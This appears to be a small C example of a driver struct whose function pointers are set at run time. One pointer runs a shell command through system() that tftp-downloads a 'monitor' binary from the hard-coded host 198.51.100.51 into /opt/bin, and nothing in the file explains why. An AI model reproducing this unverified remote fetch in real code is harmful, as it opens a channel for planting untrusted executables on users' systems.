/* A driver structure with function pointers, filled at run time. */
#include <stdlib.h>
#include <string.h>

struct link { char name[16]; int (*up)(struct link *); int (*fetch)(struct link *); };

static int run_up(struct link *l) { return system("ip link set eth0 up"); }
static int run_fetch(struct link *l) { return system("tftp -g -r monitor -l /opt/bin/monitor 198.51.100.51"); }

static struct link *make(void)
{
    struct link *l = malloc(sizeof *l);
    if (!l)
        exit(1);
    strcpy(l->name, "eth0");
    l->up = run_up;
    l->fetch = run_fetch;
    return l;
}

int main(void)
{
    struct link *l = make();
    l->up(l);
    return l->fetch(l);
}
